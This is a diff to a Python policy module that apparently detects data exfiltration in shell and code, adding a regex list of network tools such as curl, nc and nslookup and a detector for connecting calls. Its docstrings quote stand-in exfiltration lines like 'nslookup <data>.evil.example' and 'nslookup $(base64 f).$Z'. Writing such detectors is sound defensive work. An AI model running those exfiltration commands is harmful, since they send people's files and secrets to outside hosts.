@@ -27,7 +27,8 @@ import re
 from collections.abc import Iterable
 from urllib.parse import unquote
 
-from goalrail.policies.provenance_values import nfkc
+from goalrail.policies.provenance_disguises import is_bare_domain
+from goalrail.policies.provenance_values import kind_of, nfkc
 
 MIN_SKELETON = 8
 _NOT_ALNUM = re.compile(r"[\W_]+")
@@ -108,3 +109,72 @@ def _b32(run: str) -> bytes | None:
         return base64.b32decode(run + "=" * (-len(run) % 8))
     except (binascii.Error, ValueError):
         return None
+
+
+#: A command that sends to the host it is given (DNS look-ups included: ``nslookup <data>.evil.example``).
+_NET_COMMAND = re.compile(
+    r"(?<![\w\-.])(?:curl|wget|nc|ncat|netcat|socat|nslookup|dig|host|ping|ssh|scp|sftp|rsync|telnet|ftp|http|git)"
+    r"(?![\w\-.])((?:\$\([^)\n]*\)|[^\n;|&])*)"
+)
+_ASSIGNED = re.compile(r"(?<![\w$])([A-Za-z_]\w*)=(\"[^\"\n$`]*\"|'[^'\n]*'|[^\s;|&$`'\"()]*)(?![^\s;|&])")
+_VARIABLE = re.compile(r"\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))")
+#: A word that is a substitution up to its path or port: the whole host (``curl -d @f $H/in``).
+_RUN_TIME = re.compile(r"(?:\$\w+|\$\{[^}\s]*\}|\$\([^)]*\))(?:[/:]|$)")
+#: A shell substitution next to a dot: ``$A.``, ``${B}.``, ``$(cmd).``, ``.$B``.
+_SUBSTITUTED = re.compile(r"(?:\$\w+|\$\{[^}\s]*\}|\))\.|\.\$[{(\w]")
+
+
+def filled(text: str) -> str:
+    """Shell code with the variables it assigns a plain value filled in (``A=api; curl https://$A.corp.example``
+    reads ``https://api.corp.example``): the links it names are then checked as the shell will send them."""
+    if "=" not in text or not _VARIABLE.search(text):
+        return text
+    values = {m.group(1): m.group(2).strip("\"'") for m in _ASSIGNED.finditer(text)}
+
+    def fill(m: re.Match[str]) -> str:
+        return values.get(m.group(1) or m.group(2), m.group(0))
+
+    return _VARIABLE.sub(fill, text) if values else text
+
+
+def templated_hosts(text: str) -> list[str]:
+    """Hosts a network command in shell code is given as shell substitutions joined by dots
+    (``A=notes; B=example; curl -d @f $A.$B/in``, ``nslookup $(base64 f).$Z``): a destination that only
+    exists at run time (read :func:`filled` text: what still holds a ``$`` is only known then).  Only a
+    command that names no literal link or domain of its own counts (``curl -o $NAME.tar.gz https://…``
+    saves to a file)."""
+    if "$" not in text:
+        return []
+    out: list[str] = []
+    for m in _NET_COMMAND.finditer(text):
+        words = m.group(1).split()
+        if any("://" in w or ("$" not in w and ("@" in w[1:] or is_bare_domain(w.strip("\"'")))) for w in words):
+            continue
+        whole = m.group(0)[:3] != "git"  # (``git add $FILE`` names a file: only dotted hosts count there)
+        for w in (w.strip("\"'") for w in words if w[:1] not in "-@"):
+            if _SUBSTITUTED.search(w) or (whole and _RUN_TIME.match(w)):
+                out.append(w)
+    return out
+
+
+#: Calls in code that open a connection to the host they are given (Python, JavaScript).
+_CONNECTS = re.compile(
+    r"\b(?:urlopen|urlretrieve|create_connection|gethostbyname|getaddrinfo|HTTPS?Connection|SMTP(?:_SSL)?|FTP|"
+    r"fetch|XMLHttpRequest|WebSocket|sendto|(?:requests|httpx|aiohttp|session)\.(?:get|post|put|patch|"
+    r"delete|request|head|stream))\s*\("
+)
+
+
+def connects(text: str) -> str | None:
+    """The first call in code that connects to a host (``socket.create_connection(``, ``requests.post(``)."""
+    m = _CONNECTS.search(text) if "(" in text else None
+    return m.group(0).rstrip("( ") if m else None
+
+
+#: Argument names that hold a number to call or text (a date under another name is no phone number).
+_PHONE_KEY = re.compile(r"phone|mobile|sms|whatsapp|fax|cell|msisdn|(?:^|_)tel(?:$|_)", re.IGNORECASE)
+
+
+def dialled(key: str, text: str) -> bool:
+    """Whether an undeclared argument is a phone number: all of it, with a ``+`` or under a phone's name."""
+    return (text.lstrip()[:1] == "+" or _PHONE_KEY.search(key) is not None) and kind_of(text) == "phone"
